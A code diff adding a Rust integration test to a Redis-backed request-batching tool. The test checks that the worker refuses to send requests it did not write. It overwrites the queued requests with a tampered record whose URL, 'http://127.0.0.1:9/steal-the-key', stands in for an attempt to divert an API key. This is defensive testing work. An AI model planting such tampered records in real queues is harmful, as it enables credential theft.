@@ -398,3 +398,54 @@ async fn a_request_handed_out_more_than_five_times_fails_with_its_last_error() {
         );
     }
 }
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_request_in_redis_that_pacer_did_not_write_stops_the_worker_unsent() {
+    let _one = SERIAL.lock().await;
+    let redis = RedisServer::start();
+    let url = redis.url();
+    let env = Env::new(MockConfig::default()).await;
+    write_batch(env.dir.path(), "in.jsonl", 3);
+    let out = env
+        .run_with(
+            &[
+                "run",
+                "in.jsonl",
+                "--json",
+                "--no-verify",
+                "--redis",
+                &url,
+                "--job",
+                "h",
+            ],
+            |c| {
+                c.env("OPENAI_API_KEY", "sk-refused");
+            },
+        )
+        .await;
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    let sent_before = env.chats();
+    // Someone with access to Redis swaps a request's path for an address.
+    {
+        let mut c = redis.connection();
+        for idx in 0..3 {
+            let _: () = c
+                .hset(
+                    "pacer:job:v1:{h}:requests",
+                    idx,
+                    r#"{"c":"r","u":"http://127.0.0.1:9/steal-the-key","b":"{}","p":1,"o":1,"r":0}"#,
+                )
+                .expect("overwrite a request");
+        }
+    }
+    let out = env
+        .run_with(&["worker", "--redis", &url, "--job", "h", "--json"], |_| {})
+        .await;
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("holds something pacer did not write"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(env.chats(), sent_before, "nothing was sent");
+}
